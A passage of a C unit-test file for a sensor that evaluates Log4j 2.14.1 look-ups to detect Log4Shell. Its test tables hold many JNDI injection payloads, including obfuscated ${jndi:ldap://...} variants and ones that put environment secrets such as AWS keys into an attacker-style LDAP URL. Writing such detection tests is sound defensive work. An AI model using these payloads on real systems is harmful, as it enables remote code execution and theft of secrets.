/* Tests of the look-up evaluator: what Log4j 2.14.1 asks JNDI for. Each table row is a text and the
 * names it asks, in order, joined by " | "; "" is none. */
#include "sensor/base/sbuf.h"
#include "signatures/lookup.h"
#include "tests/unit/runner.h"

#include <stdio.h>

/* 2021-12-10 12:34:56 UTC, a Friday */
static const uint64_t event_time_us = UINT64_C(1639139696000000);

static struct lookup *lookup;
static struct lookup_result result;

static int start(void)
{
    lookup = lookup_new();
    return lookup == NULL;
}

static int end(void)
{
    lookup_free(&lookup);
    return lookup != NULL;
}

static void evaluate(struct span text)
{
    struct lookup_options options = {.time_us = event_time_us};
    lookup_evaluate(lookup, text, &options, &result);
}

static void join(const struct span *texts, size_t n, struct sbuf *out)
{
    for (size_t i = 0; i < n; i++) {
        sbuf_add_str(out, i > 0 ? " | " : "");
        sbuf_add(out, texts[i]);
    }
}

static bool names_are(const char *expected)
{
    struct sbuf out = sbuf_with_cap(1 << 16);
    for (size_t i = 0; i < result.n_names; i++) {
        sbuf_add_str(&out, i > 0 ? " | " : "");
        sbuf_add(&out, result.names[i].text);
    }
    bool equal = span_equal(sbuf_span(&out), span_str(expected));
    sbuf_free(&out);
    return equal;
}

static bool variables_are(const char *expected)
{
    struct sbuf out = sbuf_with_cap(1 << 16);
    join(result.variables, result.n_variables, &out);
    bool equal = span_equal(sbuf_span(&out), span_str(expected));
    sbuf_free(&out);
    return equal;
}

struct row {
    struct span text;
    const char *names;
};

#define ROW(text, names)                                                                           \
    {                                                                                              \
        SPAN_LITERAL(text), names                                                                  \
    }

/* Rows with names must be attacks, rows without must not. */
static void check_rows(const struct row *rows, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        evaluate(rows[i].text);
        bool attack = result.class == LOOKUP_ATTACK;
        bool right = attack ? names_are(rows[i].names) : span_str(rows[i].names).len == 0;
        if (!right || result.over_budget) {
            printf("row %zu: %.*s\n", i, (int)rows[i].text.len, (const char *)rows[i].text.data);
        }
        CU_ASSERT(right);
        CU_ASSERT_FALSE(result.over_budget);
    }
}

static void passes(void)
{
    static const struct row rows[] = {
        ROW("${jndi:ldap://x/a}", "ldap://x/a"),
        ROW("a ${jndi:ldap://x/a} b ${jndi:ldap://x/b} ${jndi:ldap://x/a}",
            "ldap://x/a | ldap://x/b"),
        /* An escape is undone by a later `${`, or by text that grew before it. */
        ROW("$${jndi:N} ${z}", "java:comp/env/N"),
        ROW("$${jndi:N}${", "java:comp/env/N"),
        ROW("${::-ab}$${jndi:N}", "java:comp/env/N"),
        ROW("${::-x$}{jndi:N}", "java:comp/env/N"),
        ROW("${::-$}{jndi:N} ${a}", "java:comp/env/N"),
        ROW("$${jndi:N}", ""),
        ROW("a$${jndi:N}", ""),
        ROW("$$${jndi:N}", ""),
        ROW("${::-$}{jndi:N}", ""),
        ROW("x${::-$}{jndi:N}", ""),
        ROW("${::-}$${jndi:N}", ""),
        ROW("jndi:ldap://x/a", ""),
        ROW("", ""),
        ROW("$", ""),
        ROW("${", ""),
    };
    check_rows(rows, ARRAY_LEN(rows));
}

/* Positions are UTF-16 units: the same text is decided by whether a character takes one or two. */
static void passes_count_utf16_units(void)
{
    static const struct row rows[] = {
        ROW("${::-\xc3\xa9}$${jndi:N}", "java:comp/env/N"),
        ROW("${::-\xf0\x9f\x98\x80}$${jndi:N}", "java:comp/env/N"),
        /* The last `${` is met once more where the default before it is two units or longer. */
        ROW("$$${jndi:x:y}{$${b:-q}$${$", ""),
        ROW("$$${jndi:x:y}{$${b:-\xc3\xa9}$${$", ""),
        ROW("$$${jndi:x:y}{$${b:-\xe2\x82\xac}$${$", ""),
        ROW("$$${jndi:x:y}{$${b:-qq}$${$", "x:y"),
        ROW("$$${jndi:x:y}{$${b:-\xf0\x9f\x98\x80}$${$", "x:y"),
        /* A surrogate alone is one unit, as when a JSON string holds it. */
        ROW("$$${jndi:x:y}{$${b:-\xed\xa0\x80}$${$", ""),
        ROW("$$${jndi:x:y}{$${b:-\xed\xbf\xbf\xed\xa0\x80}$${$", "x:y"),
        ROW("\xff\xfe${jndi:\xff\xc3:}\x80", "\xff\xc3:"),
    };
    check_rows(rows, ARRAY_LEN(rows));
}

static void ranges_and_escapes(void)
{
    static const struct row rows[] = {
        /* The body of an escaped expression is scanned. */
        ROW("$${${jndi:N}}", "java:comp/env/N"),
        /* An unclosed `${` shields all behind it, but not what was before. */
        ROW("${ ${jndi:N}", ""),
        ROW("${jndi:N${", ""),
        ROW("${jndi:N} ${ ${jndi:M}", "java:comp/env/N"),
        /* Inner ones first, left to right, whether needed or not. */
        ROW("${a:-${jndi:N}}", "java:comp/env/N"),
        ROW("${date:${jndi:N}}", "java:comp/env/N"),
        ROW("${${jndi:N}}", "java:comp/env/N"),
        ROW("${${jndi:A}${jndi:B}:-${jndi:C}}",
            "java:comp/env/A | java:comp/env/B | java:comp/env/C"),
        ROW("${jndi:ldap://x/${jndi:pwd}}", "java:comp/env/pwd | ldap://x/${jndi:pwd}"),
        /* Every level eats one '$' twice. */
        ROW("${lower:$${jndi:N}}", "java:comp/env/n"),
        ROW("${a:-$${jndi:N}}", "java:comp/env/N"),
        ROW("${lower:${lower:$$${jndi:N}}}", "java:comp/env/n"),
        ROW("${lower:$$${jndi:N}}", ""),
        ROW("${jndi:ldap://x/$${a:-b}}", "ldap://x/${a"),
        /* Braces. */
        ROW("${jndi:ldap://x/{a}}", "ldap://x/{a"),
        ROW("${upper:${lower:${jndi:N}}}", "java:comp/env/N | java:comp/env/n"),
        ROW("}${jndi:N}}", "java:comp/env/N"),
    };
    check_rows(rows, ARRAY_LEN(rows));
}

static void name_and_default(void)
{
    static const struct row rows[] = {
        ROW("${${::-j}${:-n}${:::::-d}${a:b:c:-i}:N}", "java:comp/env/N"),
        ROW("${jndi:x:${a:-b:-c}}", "x:b"),
        ROW("${a:-b:-${jndi:x:y}}", "x:y"),
        ROW("${jndi:\\-ldap://x/a:-}", "ldap://x/a"),
        ROW("${jndi:ldap:\\-//x/a:-}", "ldap://x/a"),
        ROW("${jndi:\\-ldap://x}", "-ldap://x"),
        ROW("${jndi:a:\\-b:\\-c:-d}", "a:b:\\-c"),
        ROW("${${-j}ndi:N}", ""),
        ROW("${${upper::-j}ndi:N}", ""),
        ROW("${${lower::-j}ndi:N}", ""),
        ROW("${${date::-j}ndi:N}", ""),
        ROW("${${env::-j}${sys::-n}${ctx::-d}i:N}", "java:comp/env/N"),
        ROW("${jndi:-x}", ""),
        ROW("${jndi:ldap://x/a:-zz}", "ldap://x/a"),
        ROW("${jndi::-x}", "java:comp/env/"),
        ROW("${jndi:}", "java:comp/env/"),
        /* The delimiter may be produced. */
        ROW("${jndi:x:${a${::-:}-x}}", "x:x"),
        ROW("${jndi:x:${a:${::--}x}}", "x:x"),
    };
    check_rows(rows, ARRAY_LEN(rows));
}

static void prefixes(void)
{
    static const struct row rows[] = {
        ROW("${JNDI:N} ${jNdI:M}", "java:comp/env/N | java:comp/env/M"),
        ROW("${jndi :N}", ""),
        ROW("${ jndi:N}", ""),
        ROW("${\tjndi:N}", ""),
        ROW("${jndi\n:N}", ""),
        ROW("${jn\0di:N}", ""),
        ROW("${\xef\xbb\xbfjndi:N}", ""),
        ROW("${jn\xc2\xad"
            "di:N}",
            ""),
        ROW("${jn\xe2\x80\x8b"
            "di:N}",
            ""),
        ROW("${\xef\xbd\x8a\xef\xbd\x8e\xef\xbd\x84\xef\xbd\x89:N}", ""),
        ROW("${foo:jndi:N}", ""),
        ROW("${:jndi:N}", ""),
        ROW("${lower:jndi:N}", ""),
        ROW("${${lower:jndi:N}}", "java:comp/env/n"),
        /* KELVIN SIGN is a k; the dotted and the dotless i are no i. */
        ROW("${jndi:x:${mar\xe2\x84\xaa"
            "er:a:-y}}",
            "x:y"),
        ROW("${JND\xc4\xb0:N}", ""),
        ROW("${jnd\xc4\xb1:N}", ""),
        ROW("${jnd${upper:\xc4\xb1}:N}", "java:comp/env/N"),
        ROW("${${base64:am5kaQ==}:ldap://x/a}", ""),
    };
    check_rows(rows, ARRAY_LEN(rows));
}

static void default_lookup_knows_the_host_name(void)
{
    static const struct row rows[] = {
        ROW("${jndi:ldap://${hostName}.x}", "ldap://${hostName}.x"),
        ROW("${jndi:ldap://${anything:hostName}.x}", "ldap://${hostName}.x"),
        ROW("${jndi:ldap://${env:hostName:-none}.x}", "ldap://${hostName}.x"),
        ROW("${jndi:ldap://${hostname}.x}", "ldap://${hostname}.x"),
        ROW("${jndi:ldap://${contextName}}", "ldap://${contextName}"),
        ROW("${jndi:ldap://${jndi:hostName}}", "java:comp/env/hostName | ldap://${hostName}"),
        ROW("${jndi:${hostName}}", "java:comp/env/${hostName}"),
    };
    check_rows(rows, ARRAY_LEN(rows));
}

static void values(void)
{
    static const struct row rows[] = {
        ROW("${jndi:${lower:LDAP}:${upper:abc}}", "ldap:ABC"),
        ROW("${jndi:x:${lower:}${upper:}}", "x:"),
        ROW("${jndi:x:${lower:A:-B}}", "x:a"),
        ROW("${jndi:x:${env:PATH:-x}${sys:user.name:-y}}", "x:xy"),
        ROW("${jndi:x:${sys::-y}${main:0:-a}${map:k:-b}${sd:k:-c}${marker:k:-d}}", "x:yabcd"),
        ROW("${jndi:x:${bundle:a:b:-c}}", "x:c"),
        ROW("${jndi:x:${jvmrunargs:a:-1}${log4j:a:-2}${docker:a:-3}${k8s:a:-4}${web:a:-5}}",
            "x:12345"),
        ROW("${jndi:x:${event:Marker:-1}${event:Exception:-2}${event:level:-3}}", "x:123"),
        ROW("${jndi:x:${event:Level:-1}}", "x:${event:Level}"),
        ROW("${jndi:x:${java:version}}", "x:${java:version}"),
        ROW("${jndi:${java:version}}", "java:comp/env/${java:version}"),
        /* Its value has a ':' in it. */
        ROW("${jndi:${java:os}}", "${java:os}"),
        ROW("${jndi${sys:path.separator}ldap:/${sys:file.separator}x/a}", "ldap://x/a"),
        ROW("${jndi:x:${sys:line.separator}}", "x:\n"),
    };
    check_rows(rows, ARRAY_LEN(rows));
}

static void java_throws_on_unknown_keys(void)
{
    static const struct row rows[] = {
        ROW("${java:x} ${jndi:N}", ""),
        ROW("${java:} ${jndi:N}", ""),
        ROW("${jndi:N} ${java:x}", "java:comp/env/N"),
        ROW("${java:-j} ${jndi:N}", "java:comp/env/N"),
        ROW("${jndi:N${java:x}}", ""),
    };
    check_rows(rows, ARRAY_LEN(rows));
    evaluate(SPAN("${java:x} ${jndi:N}"));
    CU_ASSERT(span_equal(result.exception, SPAN("IllegalArgumentException: x")));
}

static void dates(void)
{
    static const struct row rows[] = {
        ROW("${${date:'j'}ndi${date::}N}", "java:comp/env/N"),
        ROW("${jndi:x:${date:/}${date:''}${date:'a''b'}${date:1.\xc3\xa9}}", "x:/'a'b1.\xc3\xa9"),
        ROW("${jndi:x:${date:}}", "x:"),
        ROW("${jndi:x:${date:j}}", "x:12/10/21, 12:34 PM"),
        ROW("${jndi:x:${date:'j}}", "x:12/10/21, 12:34 PM"),
        ROW("${jndi:x:${date:XXXX}}", "x:12/10/21, 12:34 PM"),
        ROW("${jndi:x:${date:G y yy yyyyy Y M MM MMM MMMM L}}",
            "x:AD 2021 21 02021 2021 12 12 Dec December 12"),
        ROW("${jndi:x:${date:w W D d F E EEEE u a}}", "x:50 2 344 10 2 Fri Friday 5 PM"),
        ROW("${jndi:x:${date:H k K h m s S SSS z zzzz Z X}}",
            "x:12 12 0 12 34 56 0 000 UTC Coordinated Universal Time +0000 Z"),
    };
    check_rows(rows, ARRAY_LEN(rows));
}

static void date_at(uint64_t time_s, struct span text, const char *expected)
{
    struct lookup_options options = {.time_us = time_s * 1000000};
    lookup_evaluate(lookup, text, &options, &result);
    CU_ASSERT(names_are(expected));
}

static void dates_at_the_turn_of_the_year(void)
{
    /* 2021-12-26, 2022-01-01 (a Saturday, still the week of the 26th), 2024-12-31 23:59:59 */
    date_at(1640476800, SPAN("${jndi:x:${date:YYYY w W u k h a}}"), "x:2022 1 5 7 24 12 AM");
    date_at(1640995200, SPAN("${jndi:x:${date:yyyy-MM-dd YYYY w W D}}"), "x:2022-01-01 2022 1 1 1");
    date_at(1735689599, SPAN("${jndi:x:${date:yyyy D w HH:mm:ss}}"), "x:2024 366 1 23:59:59");
}

static void unicode_case(void)
{
    static const struct row rows[] = {
        ROW("${jndi:x:${upper:\xc3\x9f\xef\xac\x83\xc7\xb0\xc5\xbf\xc4\xb1\xc3\xa4}}",
            "x:SSFFIJ\xcc\x8cSI\xc3\x84"),
        ROW("${jndi:x:${lower:\xe2\x84\xaa\xe2\x84\xab\xc4\xb0\xc3\x84}}",
            "x:k\xc3\xa5i\xcc\x87\xc3\xa4"),
        ROW("${jndi:x:${lower:\xce\x91\xce\xa3 \xce\xa3\xce\x91 \xce\xa3}}",
            "x:\xce\xb1\xcf\x82 \xcf\x83\xce\xb1 \xcf\x83"),
        ROW("${jndi:x:${upper:a\xff\xc3(}}", "x:A\xff\xc3("),
        ROW("${jndi:x:${upper:\xf0\x90\x90\xa8}}", "x:\xf0\x90\x90\x80"),
    };
    check_rows(rows, ARRAY_LEN(rows));
}

static void cycles_throw(void)
{
    static const struct row rows[] = {
        ROW("${a:-$${a:-b}} ${jndi:N}", ""),
        ROW("${a:-$${A:-b}} ${jndi:N}", "java:comp/env/N"),
        ROW("${lower:${lower:x}} ${jndi:N}", "java:comp/env/N"),
        ROW("${${::-${::-$${::-j}}}} ${jndi:N}", ""),
        ROW("${a:-$${a}} ${jndi:N}", ""),
        ROW("${event:Message} ${jndi:N}", ""),
        ROW("${jndi:N:-$${jndi:N}} ${jndi:M}", "java:comp/env/N"),
    };
    check_rows(rows, ARRAY_LEN(rows));
    evaluate(SPAN("${a:-$${a:-b}}"));
    CU_ASSERT(span_equal(result.exception, SPAN("IllegalStateException: a")));
}

/* A name that is the text of its own range at the first look-up. */
static void cycle_list_holds_the_range(void)
{
    evaluate(SPAN("${x:-$$${${a:-b}}}"));
    CU_ASSERT(span_equal(result.exception, SPAN("")));
    evaluate(SPAN("${${lower:$${lower:$}}}"));
    CU_ASSERT_FALSE(result.over_budget);
}

static void nest(struct sbuf *text, const char *head, unsigned n, const char *middle)
{
    sbuf_reset(text);
    for (unsigned i = 0; i < n; i++) {
        sbuf_add_str(text, head);
    }
    sbuf_add_str(text, middle);
    for (unsigned i = 0; i < n; i++) {
        sbuf_add_byte(text, '}');
    }
}

static void depth_well_over_1600_is_evaluated(void)
{
    struct sbuf text = sbuf_with_cap(1 << 20);
    const char *const heads[] = {"${:-", "${", "${lower:", "${upper:${lower:", "${a:-b"};
    for (size_t i = 0; i < ARRAY_LEN(heads); i++) {
        unsigned n = i == 3 ? 900 : 1800;
        nest(&text, heads[i], n, "${jndi:ldap://x/a}");
        if (i == 3) {
            for (unsigned k = 0; k < n; k++) {
                sbuf_add_byte(&text, '}');
            }
        }
        evaluate(sbuf_span(&text));
        CU_ASSERT_EQUAL(result.class, LOOKUP_ATTACK);
        CU_ASSERT(span_equal(result.names[0].text, SPAN("ldap://x/a")));
        CU_ASSERT_FALSE(result.over_budget);
    }
    sbuf_free(&text);
}

static void depth_beyond_the_cap_is_over_budget(void)
{
    struct sbuf text = sbuf_with_cap(1 << 20);
    nest(&text, "${:-", LOOKUP_DEPTH_MAX + 1, "${jndi:ldap://x/a}");
    evaluate(sbuf_span(&text));
    CU_ASSERT(result.over_budget);
    sbuf_free(&text);
}

static void fuel_runs_out_and_what_was_found_stands(void)
{
    struct lookup_options options = {.time_us = event_time_us};
    uint64_t fuel = LOOKUP_FUEL;
    options.fuel = &fuel;
    lookup_evaluate(lookup, SPAN("${jndi:ldap://x/a} $${event:Message} ${z}${z}"), &options,
                    &result);
    CU_ASSERT(result.over_budget);
    CU_ASSERT_EQUAL(fuel, 0);
    CU_ASSERT_EQUAL(result.class, LOOKUP_ATTACK);
    CU_ASSERT(names_are("ldap://x/a"));
    fuel = LOOKUP_FUEL;
    lookup_evaluate(lookup, SPAN("${jndi:ldap://x/a}"), &options, &result);
    CU_ASSERT_FALSE(result.over_budget);
    CU_ASSERT(fuel < LOOKUP_FUEL && fuel > LOOKUP_FUEL - 1000);
    fuel = 10;
    lookup_evaluate(lookup, SPAN("${jndi:ldap://x/a}"), &options, &result);
    CU_ASSERT(result.over_budget);
}

static void long_texts_are_cut_and_say_so(void)
{
    struct sbuf text = sbuf_with_cap(LOOKUP_TEXT_MAX + 1);
    sbuf_add_str(&text, "${jndi:ldap://x/a}");
    while (text.len < LOOKUP_TEXT_MAX) {
        sbuf_add_byte(&text, 'x');
    }
    evaluate(sbuf_span(&text));
    CU_ASSERT_FALSE(result.over_budget);
    sbuf_add_byte(&text, 'x');
    evaluate(sbuf_span(&text));
    CU_ASSERT(result.over_budget);
    CU_ASSERT(names_are("ldap://x/a"));
    sbuf_free(&text);
}

static void names_beyond_the_cap_are_over_budget(void)
{
    struct sbuf text = sbuf_with_cap(1 << 16);
    for (unsigned i = 0; i <= LOOKUP_NAMES_MAX; i++) {
        sbuf_add_format(&text, "${jndi:x:%u}", i);
    }
    evaluate(sbuf_span(&text));
    CU_ASSERT(result.over_budget);
    CU_ASSERT_EQUAL(result.n_names, LOOKUP_NAMES_MAX);
    sbuf_free(&text);
}

static void check_callback(struct span text, const char *host, unsigned port, const char *path)
{
    evaluate(text);
    bool right = span_equal(result.host, span_str(host)) && result.port == port &&
                 span_equal(result.path, span_str(path));
    if (!right) {
        printf("%.*s\n", (int)text.len, (const char *)text.data);
    }
    CU_ASSERT(right);
}

static void callbacks(void)
{
    check_callback(SPAN("${jndi:ldap://h/a/b}"), "h", 389, "/a/b");
    check_callback(SPAN("${jndi:ldap://h:1389/a}"), "h", 1389, "/a");
    check_callback(SPAN("${jndi:ldaps://h}"), "h", 636, "");
    check_callback(SPAN("${jndi:rmi://h/a}"), "h", 1099, "/a");
    check_callback(SPAN("${jndi:dns://server/name}"), "server", 53, "/name");
    check_callback(SPAN("${jndi:dns:name}"), "", 0, "name");
    check_callback(SPAN("${jndi:iiop://h/a}"), "h", 900, "/a");
    check_callback(SPAN("${jndi:iiopname://h/a}"), "h", 9999, "/a");
    check_callback(SPAN("${jndi:corbaname:iiop:1.2@h:99#a}"), "h", 99, "#a");
    check_callback(SPAN("${jndi:corbaname::h#a}"), "h", 2089, "#a");
    check_callback(SPAN("${jndi:ldap://[2001:db8::1]:99/a}"), "[2001:db8::1]", 99, "/a");
    check_callback(SPAN("${jndi:ldap://[2001:db8::1]/a}"), "[2001:db8::1]", 389, "/a");
    check_callback(SPAN("${jndi:ldap:/h}"), "localhost", 389, "/h");
    check_callback(SPAN("${jndi:ldap:h}"), "localhost", 389, "h");
    check_callback(SPAN("${jndi:ldap:///h}"), "localhost", 389, "/h");
    check_callback(SPAN("${jndi:ldap:\\\\h}"), "localhost", 389, "\\\\h");
    check_callback(SPAN("${jndi:ldap://:99/}"), "localhost", 99, "/");
    check_callback(SPAN("${jndi:ldap://127.0.0.1#evil:1389/}"), "127.0.0.1#evil", 1389, "/");
    check_callback(SPAN("${jndi:ldap://${env:X}.h:99/${env:Y}}"), "${env:X}.h", 99, "/${env:Y}");
    check_callback(SPAN("${jndi:ldap://h:99999/a}"), "h", 389, "/a");
    check_callback(SPAN("${jndi:N}"), "", 0, "");
    check_callback(SPAN("${jndi:http://h/a}"), "h", 0, "/a");
}

static void schemes_that_reach_the_network(void)
{
    static const struct {
        struct span text;
        const char *scheme;
        bool reaches;
    } rows[] = {
        {SPAN_LITERAL("${jndi:ldap://h}"), "ldap", true},
        {SPAN_LITERAL("${jndi:ldaps://h}"), "ldaps", true},
        {SPAN_LITERAL("${jndi:rmi://h}"), "rmi", true},
        {SPAN_LITERAL("${jndi:dns://h}"), "dns", true},
        {SPAN_LITERAL("${jndi:iiop://h}"), "iiop", true},
        {SPAN_LITERAL("${jndi:iiopname://h}"), "iiopname", true},
        {SPAN_LITERAL("${jndi:corbaname:iiop:h}"), "corbaname", true},
        {SPAN_LITERAL("${jndi:LDAP://h}"), "LDAP", false},
        {SPAN_LITERAL("${jndi: ldap://h}"), " ldap", false},
        {SPAN_LITERAL("${jndi:http://h}"), "http", false},
        {SPAN_LITERAL("${jndi:nis://h}"), "nis", false},
        {SPAN_LITERAL("${jndi:corba:h}"), "corba", false},
        {SPAN_LITERAL("${jndi:a/ldap:h}"), "", false},
        {SPAN_LITERAL("${jndi:logging/name}"), "java", false},
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        evaluate(rows[i].text);
        CU_ASSERT_EQUAL(result.class, LOOKUP_ATTACK);
        CU_ASSERT(span_equal(result.names[0].scheme, span_str(rows[i].scheme)));
        CU_ASSERT_EQUAL(result.names[0].reaches_network, rows[i].reaches);
    }
}

static void variables_that_would_leak(void)
{
    static const struct {
        struct span text;
        const char *variables;
    } rows[] = {
        {SPAN_LITERAL("${jndi:ldap://x/${env:AWS_SECRET_ACCESS_KEY}}"),
         "env:AWS_SECRET_ACCESS_KEY"},
        {SPAN_LITERAL("${jndi:ldap://${hostName}.x/${java:version}}"), "hostName | java:version"},
        {SPAN_LITERAL("${jndi:ldap://x/${ENV:a}${sys:user.name}${env:a}}"),
         "env:a | sys:user.name"},
        {SPAN_LITERAL("${jndi:ldap://x/${${lower:S}ys:java.${::-v}ersion}}"), "sys:java.version"},
        {SPAN_LITERAL("${jndi:ldap://x/${${::-s}ys:a}b}"), "sys:a"},
        /* Not in the name: in the default, beside it, used up on the way. */
        {SPAN_LITERAL("${env:A} ${jndi:ldap://x:-${env:B}} ${env:C:-c}"), ""},
        {SPAN_LITERAL("${jndi:ldap://x/${foo}}"), ""},
        {SPAN_LITERAL("${jndi:ldap://x/${lower:${env:A}}}"), "env:a"},
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        evaluate(rows[i].text);
        CU_ASSERT_EQUAL(result.class, LOOKUP_ATTACK);
        CU_ASSERT(variables_are(rows[i].variables));
    }
}

static bool tricks_are(uint32_t tricks)
{
    return result.tricks == tricks;
}

#define T(name) (1u << TRICK_##name)

static void tricks(void)
{
    evaluate(SPAN("${jndi:ldap://x}"));
    CU_ASSERT(tricks_are(0) && result.depth == 1);
    evaluate(SPAN("${${::-j}ndi:ldap://203.0.113.9:1389/${env:AWS_KEY}}"));
    CU_ASSERT(tricks_are(T(DEFAULT)) && result.depth == 2);
    evaluate(SPAN("${JNDI:ldap://x}"));
    CU_ASSERT(tricks_are(T(CASE)));
    evaluate(SPAN("${${lower:J}nd${upper:\xc4\xb1}:x:y}"));
    CU_ASSERT(tricks_are(T(LOWER) | T(UPPER) | T(DOTLESS_I) | T(CASE)));
    evaluate(SPAN("${jndi:${upper:\xc5\xbf}:y}"));
    CU_ASSERT(tricks_are(T(UPPER) | T(UNICODE_CASE)));
    evaluate(SPAN("${jndi:${env:A:-x}${sys:B:-y}${date:':'}z${foo:C:-}}"));
    CU_ASSERT(tricks_are(T(ENV) | T(SYS) | T(DEFAULT) | T(DATE) | T(UNKNOWN_PREFIX)));
    evaluate(SPAN("${jndi${sys:path.separator}x:y}"));
    CU_ASSERT(tricks_are(T(SEPARATOR)));
    evaluate(SPAN("${jndi:${lower:${lower:x}}:y}"));
    CU_ASSERT(tricks_are(T(LOWER) | T(NESTED)) && result.depth == 3);
    evaluate(SPAN("${a:-${jndi:x:y}}"));
    CU_ASSERT(tricks_are(T(NESTED) | T(DEFAULT)) && result.depth == 2);
    evaluate(SPAN("${a:-$${jndi:x:y}}"));
    CU_ASSERT(tricks_are(T(NESTED) | T(DEFAULT) | T(ESCAPED)) && result.depth == 2);
    evaluate(SPAN("$${jndi:x:y}${"));
    CU_ASSERT(tricks_are(T(ESCAPED)));
    evaluate(SPAN("${::-x$}{jndi:x:y}"));
    CU_ASSERT(tricks_are(T(DEFAULT) | T(PRODUCED_DOLLAR)));
    evaluate(SPAN("$${jndi:x:y}"));
    CU_ASSERT(tricks_are(T(ESCAPED)));
    evaluate(SPAN("${jndi:x:y"));
    CU_ASSERT(tricks_are(T(UNCLOSED)));
    evaluate(SPAN("${ ${jndi:x:y}"));
    CU_ASSERT(tricks_are(T(SHIELDED) | T(NESTED)));
}

static bool raw_is(struct span text, const char *expected)
{
    evaluate(text);
    return span_equal(span_sub(text, result.raw_off, result.raw_len), span_str(expected));
}

static void raw_is_the_expression_that_asks(void)
{
    CU_ASSERT(raw_is(SPAN("a ${b} ${jndi:${lower:X}:y} ${c}"), "${jndi:${lower:X}:y}"));
    CU_ASSERT(raw_is(SPAN("a ${lower:${jndi:x}} b"), "${lower:${jndi:x}}"));
    CU_ASSERT(raw_is(SPAN("a ${lower:$${jndi:x}} b"), "${lower:$${jndi:x}}"));
    CU_ASSERT(raw_is(SPAN("a ${jndi:x:${lower:y} b"), "${jndi:x:${lower:y} b"));
    CU_ASSERT(raw_is(SPAN("a ${ b ${jndi:x} c"), "${jndi:x}"));
    CU_ASSERT(raw_is(SPAN("a $${jndi:x} c"), "$${jndi:x}"));
    CU_ASSERT(raw_is(SPAN("a ${::-x$}{jndi:N} c"), "${::-x$}{jndi:N}"));
    CU_ASSERT(raw_is(SPAN("a #{jndi:x} c"), "#{jndi:x}"));
    CU_ASSERT(raw_is(SPAN("a ${b} c"), ""));
}

static void check_class(struct span text, enum lookup_class class, const char *names)
{
    evaluate(text);
    bool right = result.class == class && names_are(names) && !result.over_budget;
    if (!right) {
        printf("%.*s is %s\n", (int)text.len, (const char *)text.data,
               lookup_class_name(result.class));
    }
    CU_ASSERT(right);
}

static void conditional_ones(void)
{
    check_class(SPAN("$${jndi:ldap://x/a}"), LOOKUP_CONDITIONAL, "ldap://x/a");
    check_class(SPAN("$$$${jndi:ldap://x/a}"), LOOKUP_CONDITIONAL, "ldap://x/a");
    check_class(SPAN("${foo $${bar}} $${jndi:x:y}"), LOOKUP_ATTACK, "x:y");
    check_class(SPAN("${x:$${jndi:x:y}}"), LOOKUP_CONDITIONAL, "x:y");
    check_class(SPAN("${::-$}{jndi:N}"), LOOKUP_CONDITIONAL, "java:comp/env/N");
    check_class(SPAN("${ ${jndi:ldap://x/a}"), LOOKUP_CONDITIONAL, "ldap://x/a");
    check_class(SPAN("${jndi:ldap://x/a"), LOOKUP_CONDITIONAL, "ldap://x/a");
    check_class(SPAN("${jndi:${lower:ldap}://x/a"), LOOKUP_CONDITIONAL, "ldap://x/a");
    check_class(SPAN("${jndi:${lower:"), LOOKUP_CONDITIONAL, "java:comp/env/");
    check_class(SPAN("$${jndi:ldap://x/a"), LOOKUP_CONDITIONAL, "ldap://x/a");
    check_class(SPAN("{\"a\":\"${jndi:ldap://x/${env:A}"), LOOKUP_CONDITIONAL, "ldap://x/${env:A}");
    check_class(SPAN("${env:a:-${env:b:-$}{jndi:ldap://x/a}}}"), LOOKUP_CONDITIONAL, "ldap://x/a");
}

static void attempts(void)
{
    static const struct span rows[] = {
        SPAN_LITERAL("${jndi :ldap://x/a}"),
        SPAN_LITERAL("${ jndi:ldap://x/a}"),
        SPAN_LITERAL("${\t\r\njndi:ldap://x/a}"),
        SPAN_LITERAL("${\xef\xbb\xbfjndi:ldap://x/a}"),
        SPAN_LITERAL("${jndi\0:ldap://x/a}"),
        SPAN_LITERAL("${jndi ldap://x/a}"),
        SPAN_LITERAL("${jndi[:]ldap[:]//x}"),
        SPAN_LITERAL("#{jndi:ldap://x/a}"),
        SPAN_LITERAL("%{jndi:ldap://x/a}"),
        SPAN_LITERAL("$(jndi:ldap://x/a)"),
        SPAN_LITERAL("#{JnDi:ldap://x/a"),
        SPAN_LITERAL("#{${lower:J}ndi:ldap://x/a}"),
        SPAN_LITERAL("${jnd\xc4\xb1:rmi://x/a}"),
        SPAN_LITERAL("${JND\xc4\xb0:rmi://x/a}"),
        SPAN_LITERAL("${java:x} ${jndi:ldap://x/a}"),
        SPAN_LITERAL("${java:x} ${${lower:J}ndi:ldap://x/a}"),
        SPAN_LITERAL("${java:x} ${java:y} ${${lower:J}ndi:ldap://x/a}"),
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        check_class(rows[i], LOOKUP_ATTEMPT, "");
        CU_ASSERT(result.attempt.len > 0);
    }
}

static void harmless_ones(void)
{
    static const struct span rows[] = {
        SPAN_LITERAL("${jndi}"),
        SPAN_LITERAL("${jndi}${sp}${colon}"),
        SPAN_LITERAL("${jndi"),
        SPAN_LITERAL("jndi:${"),
        SPAN_LITERAL("jndi:ldap://x/a"),
        SPAN_LITERAL("the jndi: look-up ${of} #{log4j}"),
        SPAN_LITERAL("${lower:jndi}"),
        SPAN_LITERAL("${jndi.name:x}"),
        SPAN_LITERAL("${jndi-name:x}"),
        SPAN_LITERAL("${jndi_name:x}"),
        SPAN_LITERAL("${jndiName:x}"),
        SPAN_LITERAL("$${jndi}"),
        SPAN_LITERAL("${a} ${b:-c} $(d) #{e}"),
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        check_class(rows[i], LOOKUP_NONE, "");
    }
}

/* A mark for the host's values is a byte that the text does not have. */
static void host_values_do_not_mix_with_bytes_of_the_text(void)
{
    evaluate(SPAN("${jndi:x:\xff\x80${hostName}\xfe\x80}"));
    CU_ASSERT(names_are("x:\xff\x80${hostName}\xfe\x80"));
    CU_ASSERT(variables_are("hostName"));
    evaluate(SPAN("${hostName} #{jndi:x:${java:version}}"));
    CU_ASSERT(span_equal(result.attempt, SPAN("#{jndi:x:${java:version}}")) ||
              span_equal(result.attempt, SPAN("#{jndi:x:${java:version}")));
    CU_ASSERT(span_equal(result.evaluated, SPAN("${hostName} #{jndi:x:${java:version}}")));
    evaluate(SPAN("${jndi:x:\xc0\xc1\xf5\xf6\xf7\xf8\xf9\xfa\xfb\xfc\xfd\xfe\xff${hostName}}"));
